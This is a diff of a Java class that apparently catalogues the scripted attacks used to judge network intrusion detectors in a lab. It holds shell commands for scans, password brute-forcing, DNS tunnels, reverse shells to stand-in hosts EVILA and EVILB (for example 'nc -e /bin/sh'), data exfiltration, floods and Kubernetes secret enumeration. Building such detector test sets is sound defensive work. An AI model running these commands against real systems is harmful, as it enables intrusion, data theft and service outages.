@@ -1,13 +1,18 @@
 package dev.weir.standalone.lab;
 
-import static dev.weir.standalone.lab.LabAttacks.SINK;
-import static dev.weir.standalone.lab.LabAttacks.WORDS;
-import static dev.weir.standalone.lab.LabAttacks.beacon;
-import static dev.weir.standalone.lab.LabAttacks.pause;
-import static dev.weir.standalone.lab.LabAttacks.tlsEnd;
+import static dev.weir.standalone.lab.AttackScripts.SINK;
+import static dev.weir.standalone.lab.AttackScripts.WORDS;
+import static dev.weir.standalone.lab.AttackScripts.dnsEnd;
+import static dev.weir.standalone.lab.AttackScripts.httpEnd;
+import static dev.weir.standalone.lab.AttackScripts.repeated;
+import static dev.weir.standalone.lab.AttackScripts.sshEnd;
+import static dev.weir.standalone.lab.AttackScripts.tlsEnd;
+import static dev.weir.standalone.lab.AttackScripts.typed;
 import static dev.weir.standalone.lab.LabHost.API;
+import static dev.weir.standalone.lab.LabHost.BACKUP;
+import static dev.weir.standalone.lab.LabHost.BROKER;
+import static dev.weir.standalone.lab.LabHost.CACHE;
 import static dev.weir.standalone.lab.LabHost.CI;
-import static dev.weir.standalone.lab.LabHost.DB;
 import static dev.weir.standalone.lab.LabHost.EVILA;
 import static dev.weir.standalone.lab.LabHost.EVILB;
 import static dev.weir.standalone.lab.LabHost.JOB;
@@ -16,250 +21,302 @@ import static dev.weir.standalone.lab.LabHost.OPS;
 import static dev.weir.standalone.lab.LabHost.ORDERS;
 import static dev.weir.standalone.lab.LabHost.SCANNER;
 import static dev.weir.standalone.lab.LabHost.SENSOR;
+import static dev.weir.standalone.lab.LabHost.USERA;
 import static dev.weir.standalone.lab.LabHost.USERC;
 import static dev.weir.standalone.lab.LabHost.WEB;
 import static dev.weir.standalone.lab.LabHost.WEBB;
 
 import dev.weir.standalone.lab.LabAttack.Listener;
-import java.util.ArrayList;
-import java.util.List;
 
-/** The attacks that detectors are judged by. They go to {@link LabAttacks}, and others take their place, once a detector has been tuned on one. */
-final class JudgingAttacks {
-    private static final String GUESSES = "for i in $(seq %d); do echo secret$i; done > $FOLDER/secrets-$$\n";
+/**
+ * The attacks that detectors are judged by. They go to {@link FormerJudgingAttacks}, and others take their place, once a
+ * detector has been tuned on one.
+ */
+final class JudgingAttacks extends AttackCatalogue {
+    private static final String NEIGHBOUR = """
+            ping -n -c 1 -W 0.2 %1$s >/dev/null; mac=$(ip neigh show %1$s | sed 's/.*lladdr \\([^ ]*\\).*/\\1/')
+            """;
 
-    private final List<LabAttack> attacks = new ArrayList<>();
+    /** A label of a name, of 48 characters that carry data. */
+    private static final String LABEL = "$(head -c 30 /dev/urandom | base32 -w 0)";
 
-    private JudgingAttacks() {
-        scans();
-        webScans();
-        logins();
-        tunnels();
-        channels();
-        transfers();
-        floods();
-        lateral();
+    /** The fingerprint of every SSH server's key, which PuTTY's tools ask for. */
+    private static final String FINGERPRINT = "key=$(ssh-keygen -lf $FOLDER/host_key.pub | cut -d ' ' -f 2)\n";
+
+    JudgingAttacks() {
+        super(true);
     }
 
-    static List<LabAttack> all() {
-        return List.copyOf(new JudgingAttacks().attacks);
-    }
-
-    private void judge(String name, String tool, LabHost attacker, int stretch, String script, Listener... listeners) {
-        attacks.add(new LabAttack(name, tool, true, attacker, stretch, List.of(listeners), script));
-    }
-
-    private void scans() {
-        judge("scan-masscan", "masscan", JOB, 1, """
-                ping -c 1 -W 1 $DB >/dev/null; mac=$(ip neigh show $DB | sed 's/.*lladdr \\([^ ]*\\).*/\\1/')
-                masscan --router-mac $mac --interface $(ip -o route get $DB | sed 's/.* dev \\([^ ]*\\).*/\\1/') \\
-                  -p 1-200 --rate 200 --wait 1 $DB
+    @Override
+    void scans() {
+        add("scan-zmap", "zmap", ORDERS, 1, NEIGHBOUR.formatted("10.60.8.1") + """
+                zmap -q -i eth0 -G $mac -p 6379 -r 150 -c 1 -b /dev/null -o /dev/null 10.60.8.0/25
                 """);
-        judge("scan-nmap-xmas", "nmap", ORDERS, 1, "nmap -n -Pn -sX -p 20-90 -T4 --max-retries 0 $API");
-        judge("scan-fping", "fping", CI, 1, "fping -q -c 1 -t 100 -g 10.60.7.0/26");
-        judge("scan-telnet", "telnet", SENSOR, 5, """
-                for h in $WEB $API $DB $CACHE $BROKER; do
-                  for p in 21 22 23 25 110 143 3306 5432 6379 8080 9200 27017; do
-                    timeout 0.4 telnet $h $p </dev/null >/dev/null 2>&1
-                  done
+        add("scan-nping-outside", "nping", SCANNER, 2, "nping --tcp-connect -p 1-120 -c 1 --rate 20 $ORDERS");
+        add("scan-mausezahn-fin", "mausezahn", NEW, 1, NEIGHBOUR.formatted("$API") + """
+                mausezahn eth0 -q -b $mac -A $NEW -B $API -t tcp "sp=40000,dp=20-110,flags=fin" -d 10m
+                """);
+        add("scan-nc-openbsd", "nc.openbsd", WEBB, 1, "nc.openbsd -n -z -w 1 $DB 1-200");
+        add(
+                "scan-nc-traditional-slow",
+                "nc.traditional",
+                OPS,
+                600,
+                "nc.traditional -n -z -r -i 1 -w 1 $BROKER 8000-8047");
+        add("scan-busybox-horizontal", "busybox", CI, 10, """
+                for i in $(seq 64); do timeout 0.4 busybox nc 10.60.8.$i 6443 </dev/null; done
+                """);
+        add("scan-ike", "ike-scan", API, 1, "ike-scan --nodns -r 1 -i 50 10.60.7.0/26");
+        add("scan-ping-day", "ping", WEB, 900, """
+                for i in $(seq 2 51); do ping -n -q -c 1 -W 0.2 10.60.8.$i; sleep 0.6; done
+                """);
+        add("scan-oping-outside", "oping", EVILB, 5, "oping -c 2 -w 0.5 10.60.8.{1..50} $WEB $WEBB $API $DB");
+    }
+
+    @Override
+    void webScans() {
+        add("http-recon-dirsearch", "dirsearch", SCANNER, 1, WORDS.formatted(300) + """
+                PATH=/usr/bin:/bin HOME=$FOLDER timeout 45 \\
+                  dirsearch -q -t 4 -e php -w $FOLDER/words-$$ -o $FOLDER/found-$$ -u http://$API:8080/
+                """);
+        add("http-recon-sqlmap", "sqlmap", JOB, 2, """
+                timeout 45 sqlmap --batch --level=2 --output-dir=$FOLDER/sqlmap-$$ -u "http://$WEBB/items/3?sort=1"
+                """);
+        add("http-recon-aria2", "aria2c", CI, 1, WORDS.formatted(250) + """
+                sed "s#.*#http://$WEB:8080/&.zip#" $FOLDER/words-$$ > $FOLDER/urls-$$
+                timeout 45 aria2c -q --no-conf --dry-run -j 2 -m 1 -i $FOLDER/urls-$$
+                """);
+        add("http-recon-lynx-slow", "lynx", USERA, 30, """
+                for i in $(seq 100); do lynx -dump http://$WEB/old-$i/index.php >/dev/null; sleep 0.3; done
+                """);
+    }
+
+    @Override
+    void logins() {
+        add("bruteforce-plink-ssh", "plink", EVILA, 2, FINGERPRINT + """
+                for i in $(seq 60); do timeout 5 plink -batch -ssh -hostkey $key -pw guess$i root@$WEBB true; done
+                """);
+        add("bruteforce-dbclient-ssh-slow", "dbclient", CI, 30, """
+                for i in $(seq 45); do
+                  DROPBEAR_PASSWORD=guess$i timeout 5 dbclient -y -y root@$BASTION true </dev/null; sleep 0.4
                 done
                 """);
-        judge("scan-snmp", "onesixtyone", WEB, 1, """
-                for i in $(seq 60); do echo 10.60.8.$i; done > $FOLDER/targets-$$
-                onesixtyone -w 20 -i $FOLDER/targets-$$ public
-                """);
-        judge("scan-netbios", "nbtscan", API, 1, "nbtscan -q -t 50 10.60.7.0/26");
-        judge("scan-socat-day", "socat", WEBB, 900, """
-                for p in $(shuf -i 1-1000 -n 45 --random-source=<(yes)); do
-                  timeout 0.3 socat /dev/null tcp:$CACHE:$p; sleep 0.8
-                done
-                """);
-        judge("scan-wget-outside", "wget", EVILB, 2, """
-                for p in $(seq 8000 8090); do wget -q -T 0.4 -t 1 -O /dev/null http://$WEB:$p/; done
-                """);
-    }
-
-    private void webScans() {
-        judge("http-recon-wfuzz", "wfuzz", EVILA, 1, WORDS.formatted(300) + """
-                wfuzz -t 5 --hc 404 -w $FOLDER/words-$$ http://$WEBB/FUZZ.php >/dev/null 2>&1
-                """);
-        judge("http-recon-wget-list", "wget", SENSOR, 1, WORDS.formatted(300) + """
-                sed "s#^#http://$API:8080/#" $FOLDER/words-$$ > $FOLDER/urls-$$; wget -q --spider -t 1 -i $FOLDER/urls-$$
-                """);
-        judge("http-recon-wget-slow", "wget", USERC, 20, """
-                for i in $(seq 120); do wget -q -t 1 -O /dev/null http://$WEB/cgi-bin/$((i * 37)).cgi; sleep 0.2; done
-                """);
-    }
-
-    private void logins() {
-        judge("bruteforce-ncrack-ssh", "ncrack", SCANNER, 2, GUESSES.formatted(60) + """
-                timeout 50 ncrack --user root -P $FOLDER/secrets-$$ -g CL=4 ssh://$API:22
-                """);
-        judge("bruteforce-patator-ssh", "patator", JOB, 4, GUESSES.formatted(40) + """
-                timeout 50 patator ssh_login host=$ORDERS user=root password=FILE0 0=$FOLDER/secrets-$$ -t 2 >/dev/null 2>&1
-                """);
-        judge("bruteforce-patator-postgres", "patator", CI, 2, GUESSES.formatted(60) + """
-                timeout 50 patator pgsql_login host=$DB user=app password=FILE0 0=$FOLDER/secrets-$$ -t 3 >/dev/null 2>&1
-                """);
-        judge("bruteforce-wget", "wget", NEW, 2, """
-                for i in $(seq 120); do wget -q -t 1 -O /dev/null --auth-no-challenge --user admin --password x$i http://$WEB/admin/; done
-                """);
-        judge("bruteforce-psql-slow", "psql", SENSOR, 60, """
-                for i in $(seq 45); do PGPASSWORD=slow$i psql -q -h $DB -U backup -c '' postgres; sleep 0.4; done
-                """);
-    }
-
-    private void tunnels() {
-        judge(
-                "dns-tunnel-iodine-txt",
-                "iodine",
+        add(
+                "bruteforce-redis-auth",
+                "redis-cli",
                 SENSOR,
-                5,
-                """
-                timeout 25 iodine -f -r -I 2 -T TXT -O base32 -P secret -d dnsj $DNS tunnel.example & sleep 6
-                ping -c 20 -i 0.4 -s 200 10.98.0.1
-                wait
-                """,
-                new Listener(EVILA, "exec iodined -f -c -P secret -d dnst 10.98.0.1/24 tunnel.example"));
-        judge("dns-tunnel-host", "host", ORDERS, 30, """
-                for i in $(seq 100); do
-                  host -W 1 -R 1 -t A $(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \\n').relay.example $DNS; sleep 0.2
-                done
+                2,
+                "for i in $(seq 120); do redis-cli -h $CACHE --user backup --pass key$i --no-auth-warning ping; sleep 0.1; done",
+                new Listener(
+                        CACHE, "redis-cli -h $CACHE acl setuser backup on '>none-guesses-it' '~*' +@all; sleep 60"));
+        add("bruteforce-createuser-postgres", "createuser", WEBB, 20, """
+                for i in $(seq 60); do PGPASSWORD=pass$i createuser -w -h $DB -U replica x$i; sleep 0.3; done
                 """);
-        judge("dns-tunnel-nslookup-mx", "nslookup", WEB, 60, """
-                for i in $(seq 70); do
-                  nslookup -timeout=1 -retry=1 -type=mx $i-$(head -c 22 /dev/urandom | od -An -tx1 | tr -d ' \\n').cdn.tunnel.example $DNS
-                  sleep 0.4
-                done
+        add(
+                "bruteforce-mosquitto",
+                "mosquitto_pub",
+                EVILB,
+                1,
+                "for i in $(seq 150); do mosquitto_pub -h $BROKER -p 1884 -u admin -P pass$i -t x -m x; done",
+                new Listener(BROKER, """
+                        mosquitto_passwd -b -c $FOLDER/broker.pw admin none-guesses-it
+                        printf 'listener 1884 %s\\nallow_anonymous false\\npassword_file %s/broker.pw\\nuser root\\n' \\
+                          $BROKER $FOLDER > $FOLDER/guarded.conf
+                        exec mosquitto -c $FOLDER/guarded.conf
+                        """));
+        add("bruteforce-busybox-http", "busybox", SENSOR, 10, """
+                for i in $(seq 90); do busybox wget -q -O /dev/null http://admin:guess$i@$WEBB/admin/; sleep 0.25; done
                 """);
     }
 
-    private void channels() {
-        judge(
-                "c2-socat-tls-shell",
-                "socat",
-                CI,
+    @Override
+    void tunnels() {
+        add(
+                "dns-tunnel-kdig",
+                "kdig",
+                JOB,
                 20,
-                "timeout 45 socat openssl:$EVILB:443,verify=0 exec:/bin/sh",
-                new Listener(EVILB, """
-                        (for i in $(seq 22); do sleep 1.$((RANDOM % 9)); echo 'id; cat /etc/passwd'; done; echo exit) \
-                          | socat - openssl-listen:443,reuseaddr,cert=$FOLDER/tls.crt,key=$FOLDER/tls.key,verify=0
-                        """));
-        judge(
-                "c2-openssl-beacon",
-                "openssl",
+                repeated(110, "kdig +short +retry=0 +timeout=1 @$DNS A " + LABEL + ".$i.tunnel.example", 100, 50),
+                dnsEnd(EVILA, "tunnel.example", "10.66.66.66"));
+        add(
+                "dns-tunnel-drill-direct",
+                "drill",
+                WEBB,
+                10,
+                repeated(120, "drill @$EVILB " + LABEL + "." + LABEL + ".relay.example AAAA", 80, 20),
+                dnsEnd(EVILB, "relay.example", "fd66::66"));
+        add(
+                "dns-tunnel-busybox-slow",
+                "busybox",
                 API,
+                90,
+                repeated(70, "busybox nslookup -type=txt " + LABEL + ".c$i.tunnel.example $DNS", 450, 20),
+                dnsEnd(EVILA, "tunnel.example", "10.66.66.66"));
+    }
+
+    @Override
+    void channels() {
+        add(
+                "c2-nc-traditional-shell",
+                "nc.traditional",
+                ORDERS,
+                25,
+                "timeout 45 nc.traditional -n $EVILB 53 -e /bin/sh",
+                new Listener(EVILB, typed(20, "ps; ls /etc") + " | nc.traditional -n -l -s $EVILB -p 53 -q 1"));
+        add(
+                "c2-httptunnel-shell",
+                "htc",
+                JOB,
+                20,
+                """
+                htc -w -F 2222 $EVILA:80 & sleep 1
+                timeout 45 socat tcp:127.0.0.1:2222 exec:/bin/sh
+                kill %1
+                """,
+                new Listener(
+                        EVILA,
+                        "hts -w -F 127.0.0.1:7777 80 &\n" + typed(20, "id; cat /proc/meminfo")
+                                + " | ncat -l 127.0.0.1 7777; kill %1"));
+        add(
+                "c2-busybox-beacon-even",
+                "busybox",
+                ORDERS,
                 60,
-                "for i in $(seq 60); do echo $RANDOM | timeout 0.7 openssl s_client -quiet -connect $EVILA:443 >/dev/null 2>&1; "
-                        + pause(400, 25) + "; done",
+                repeated(70, "busybox wget -q -O /dev/null http://$EVILB:8080/in", 600, 0),
+                httpEnd(EVILB, 8_080));
+        add(
+                "c2-gnutls-beacon",
+                "gnutls-cli",
+                WEB,
+                60,
+                repeated(60, "echo $RANDOM | timeout 1 gnutls-cli --insecure -p 443 $EVILA", 500, 20),
                 tlsEnd(EVILA, 443));
-        judge(
-                "c2-wget-beacon",
-                "wget",
-                NEW,
-                45,
-                "for i in $(seq 65); do wget -q -t 1 -T 1 -O /dev/null http://$EVILB:8000/task; " + pause(700, 3)
-                        + "; done",
-                new Listener(
-                        EVILB,
-                        "exec ncat -lk $EVILB 8000 -c 'read line; printf \"HTTP/1.0 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nok\"'"));
-        judge("c2-dead-wget", "wget", WEBB, 30, """
-                for i in $(seq 90); do wget -q -t 1 -T 0.4 -O /dev/null http://$SCANNER:8080/gate; sleep 0.$((100 + RANDOM % 60)); done
-                """);
-        judge("c2-dead-telnet", "telnet", JOB, 20, """
-                for i in $(seq 120); do timeout 0.3 telnet $EVILA 5555 </dev/null >/dev/null 2>&1; sleep 0.$((250 + RANDOM % 200)); done
-                """);
-        judge(
-                "c2-inside-wget",
-                "wget",
-                WEB,
-                60,
-                "for i in $(seq 70); do wget -q -t 1 -T 1 -O /dev/null http://$NEW:8888/next; " + pause(550, 30)
-                        + "; done",
-                new Listener(
-                        NEW,
-                        "exec ncat -lk $NEW 8888 -c 'read line; printf \"HTTP/1.0 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nok\"'"));
-        judge("c2-curl-jitter", "curl", JOB, 60, beacon("https://$EVILA:8443/u", 70, 750, 30), tlsEnd(EVILA, 8_443));
-        judge("c2-ssh-reverse", "ssh", ORDERS, 60, """
-                timeout 45 ssh $SSH -R 127.0.0.1:0:127.0.0.1:22 root@$EVILB 'for i in $(seq 40); do date; sleep 1; done'
-                """, new Listener(EVILB, """
-                        mkdir -p /run/sshd
-                        exec $(command -v sshd) -D -e -f /dev/null -h $FOLDER/host_key -o UsePAM=no -o StrictModes=no \
-                          -o PermitRootLogin=yes -o PidFile=none -o AuthorizedKeysFile=$FOLDER/key.pub
-                        """));
-    }
-
-    private void transfers() {
-        judge(
-                "exfil-wget-post",
-                "wget",
-                API,
-                1,
-                "head -c 60000000 /dev/urandom > $FOLDER/archive-$$; wget -q -t 1 -T 20 -O /dev/null"
-                        + " --post-file=$FOLDER/archive-$$ http://$EVILA:8080/",
-                new Listener(EVILA, SINK.formatted(8_080)));
-        judge(
-                "exfil-openssl-drip",
-                "openssl",
-                WEB,
-                120,
-                "for i in $(seq 40); do head -c 3000000 /dev/urandom | timeout 2 openssl s_client -quiet -connect $EVILB:443"
-                        + " >/dev/null 2>&1; sleep 0.5; done",
-                new Listener(
-                        EVILB,
-                        "exec socat -u openssl-listen:443,fork,reuseaddr,cert=$FOLDER/tls.crt,key=$FOLDER/tls.key,verify=0"
-                                + " open:/dev/null"));
-        judge(
-                "exfil-pgdump",
-                "pg_dump",
+        add(
+                "c2-lftp-jitter",
+                "lftp",
                 CI,
-                1,
-                "for i in 1 2 3 4; do pg_dump -h $DB -U postgres -t pgbench_accounts postgres >/dev/null; done");
-        judge(
-                "exfil-rsync-push",
-                "rsync",
-                DB,
-                1,
-                "head -c 70000000 /dev/urandom > $FOLDER/base-$$; rsync $FOLDER/base-$$ rsync://$EVILB/in/x",
-                new Listener(EVILB, """
-                        mkdir -p $FOLDER/in
-                        printf '[in]\npath = %s/in\nread only = false\nuid = root\nuse chroot = false\n' $FOLDER > $FOLDER/in.conf
-                        exec rsync --daemon --no-detach --config=$FOLDER/in.conf --address=$EVILB
+                60,
+                repeated(
+                        60,
+                        "lftp -c 'set ssl:verify-certificate no; set net:max-retries 1; set net:timeout 2; cat"
+                                + " https://'$EVILB':8443/c'",
+                        600,
+                        50),
+                new Listener(
+                        EVILB,
+                        "exec ncat --ssl --ssl-cert $FOLDER/tls.crt --ssl-key $FOLDER/tls.key -lk $EVILB 8443 -c"
+                                + " 'read line; printf \"HTTP/1.0 200 OK\\r\\nContent-Length: 4\\r\\n\\r\\nnone\"'"));
+        add(
+                "c2-inside-redis",
+                "redis-cli",
+                WEBB,
+                60,
+                repeated(70, "redis-cli -h $NEW lpop tasks", 550, 30),
+                new Listener(NEW, "exec redis-server --bind $NEW --protected-mode no --save '' --dir $FOLDER"));
+        add(
+                "c2-dead-mosquitto",
+                "mosquitto_pub",
+                SENSOR,
+                40,
+                repeated(90, "mosquitto_pub -h $EVILA -p 8883 -t c -m up", 400, 20));
+        add(
+                "c2-dead-nc-openbsd",
+                "nc.openbsd",
+                API,
+                60,
+                repeated(60, "timeout 0.3 nc.openbsd -n -z 10.60.8.99 8443", 400, 40));
+        add(
+                "c2-ptunnel-shell",
+                "ptunnel-ng",
+                WEBB,
+                30,
+                """
+                ptunnel-ng -p$EVILB -l2224 -r127.0.0.1 -R7779 & sleep 1
+                timeout 45 socat tcp:127.0.0.1:2224 exec:/bin/sh
+                kill %1
+                """,
+                new Listener(
+                        EVILB,
+                        "ptunnel-ng -r127.0.0.1 -R7779 &\n" + typed(20, "id; ps ax")
+                                + " | ncat -l 127.0.0.1 7779; kill %1"));
+        add("c2-stunnel-lasting", "stunnel4", BACKUP, 60, """
+                printf 'foreground = yes\\npid =\\n[c]\\nclient = yes\\naccept = 127.0.0.1:2223\\nconnect = %s:443\\n' $EVILB \\
+                  > $FOLDER/stunnel-$$
+                stunnel4 $FOLDER/stunnel-$$ & sleep 1
+                (for i in $(seq 40); do echo report $RANDOM; sleep 1; done) | timeout 45 nc.openbsd -N 127.0.0.1 2223
+                kill %1
+                """, new Listener(EVILB, """
+                        printf 'foreground = yes\\npid =\\n[s]\\naccept = %s:443\\n' $EVILB > $FOLDER/end
+                        printf 'connect = 127.0.0.1:7778\\ncert = %s/tls.crt\\nkey = %s/tls.key\\n' $FOLDER $FOLDER >> $FOLDER/end
+                        socat tcp-listen:7778,bind=127.0.0.1,fork,reuseaddr exec:cat &
+                        exec stunnel4 $FOLDER/end
                         """));
     }
 
-    private void floods() {
-        judge(
-                "ddos-siege",
-                "siege",
-                EVILA,
-                1,
-                "HOME=$FOLDER siege -q -b -c 40 -t 6S http://$WEBB/index.html >/dev/null 2>&1");
-        judge("ddos-slowloris", "slowhttptest", USERC, 2, """
-                slowhttptest -c 400 -H -i 5 -r 100 -u http://$WEB/ -x 20 -p 2 -l 25 >/dev/null 2>&1
+    @Override
+    void transfers() {
+        add("exfil-busybox-ftp", "busybox", CI, 1, """
+                head -c 60000000 /dev/urandom > $FOLDER/archive-$$
+                busybox ftpput -u ftp -p x $EVILA in/archive $FOLDER/archive-$$
+                """, new Listener(EVILA, """
+                        mkdir -p $FOLDER/ftp/in $FOLDER/empty && chown ftp $FOLDER/ftp/in
+                        printf '%s\\n' listen=YES listen_ipv6=NO anonymous_enable=YES write_enable=YES anon_upload_enable=YES \\
+                          anon_root=$FOLDER/ftp secure_chroot_dir=$FOLDER/empty listen_address=$EVILA seccomp_sandbox=NO \\
+                          background=NO > $FOLDER/vsftpd.conf
+                        exec vsftpd $FOLDER/vsftpd.conf
+                        """));
+        add(
+                "exfil-nc-openbsd-drip",
+                "nc.openbsd",
+                WEB,
+                90,
+                repeated(45, "head -c 1500000 /dev/urandom | timeout 2 nc.openbsd -n -N $EVILA 443", 600, 20),
+                new Listener(EVILA, SINK.formatted(443)));
+        add(
+                "exfil-pscp-drip",
+                "pscp",
+                ORDERS,
+                100,
+                FINGERPRINT + """
+                puttygen $FOLDER/key -O private -o $FOLDER/ppk-$$
+                head -c 1500000 /dev/urandom > $FOLDER/part-$$
+                """
+                        + repeated(
+                                40,
+                                "timeout 4 pscp -q -batch -hostkey $key -i $FOLDER/ppk-$$ $FOLDER/part-$$"
+                                        + " root@$EVILB:$FOLDER/taken",
+                                500,
+                                30),
+                sshEnd(EVILB));
+        add("exfil-pgdumpall", "pg_dumpall", SENSOR, 1, """
+                for i in 1 2 3; do pg_dumpall -h $DB -U postgres >/dev/null; done
                 """);
-        judge("ddos-httperf", "httperf", JOB, 1, """
-                httperf --hog --server $API --port 8080 --uri /healthz --num-conns 3000 --rate 500 --timeout 2 >/dev/null 2>&1
-                """);
-        judge("ddos-hping-udp", "hping3", SENSOR, 1, "hping3 -n -q --udp -c 12000 -i u250 -d 400 -p 53 $DNS");
+        add("exfil-nping-icmp", "nping", JOB, 1, "nping -q --icmp --data-length 1400 -c 12000 --rate 1000 $EVILB");
     }
 
-    private void lateral() {
-        judge("lateral-sftp", "sftp", CI, 20, """
-                for h in $ORDERS $BASTION $API $WEBB; do
-                  printf 'ls /\\nget /etc/hostname %s/h-%s\\nbye\\n' $FOLDER $$ | timeout 8 sftp -q $SSH -b - root@$h; sleep 1
+    @Override
+    void floods() {
+        add("ddos-h2load", "h2load", USERC, 1, "h2load --h1 -D 6 --rps 10 -c 100 -t 1 http://$WEBB/index.html");
+        add("ddos-mausezahn-syn", "mausezahn", EVILA, 1, NEIGHBOUR.formatted("$WEBB") + """
+                mausezahn eth0 -q -b $mac -A $EVILA -B $WEBB -t tcp "sp=2000-9999,dp=443,flags=syn" -d 500
+                """);
+        add("ddos-iperf-udp", "iperf", NEW, 1, "timeout 20 iperf -u -c $BROKER -p 5683 -b 20M -l 1000 -t 6");
+    }
+
+    @Override
+    void lateral() {
+        add("lateral-pssh", "parallel-ssh", JOB, 20, """
+                parallel-ssh -p 2 -t 9 -x "$SSH" -H "root@$API root@$ORDERS root@$WEBB root@$BASTION" 'id; sleep 4; uname -a'
+                """);
+        add("lateral-clush", "clush", SENSOR, 20, """
+                for h in $WEBB $API $BASTION $ORDERS; do
+                  clush -l root -o "$SSH" -w $h --copy $FOLDER/tls.crt --dest /dev/null
+                  clush -l root -o "$SSH" -w $h 'for i in 1 2 3; do ps ax; sleep 1; done'
                 done
                 """);
-        judge("lateral-rsync-ssh", "rsync", OPS, 20, """
-                mkdir -p $FOLDER/etc-$$
-                for h in $WEBB $ORDERS $API; do
-                  timeout 9 rsync -a -e "ssh $SSH" $FOLDER/www/shop/ root@$h:/tmp/copied-$$/; sleep 1
-                  timeout 9 ssh $SSH root@$h 'sleep 3; rm -rf /tmp/copied-*'
-                done
-                """);
-        judge("lateral-pod-to-apiserver-wget", "wget", SENSOR, 5, """
-                for path in api apis api/v1/namespaces api/v1/pods api/v1/secrets version openapi/v2; do
-                  wget -q -t 1 -T 2 --no-check-certificate -O /dev/null https://$KAPI:6443/$path; sleep 0.5
+        add("lateral-pod-to-apiserver-httpie", "http", CI, 10, """
+                for kind in secrets pods nodes configmaps services endpoints events namespaces serviceaccounts; do
+                  http --ignore-stdin --verify=no --timeout 2 https://$KAPI:6443/api/v1/$kind; sleep 0.5
                 done
                 """);
     }
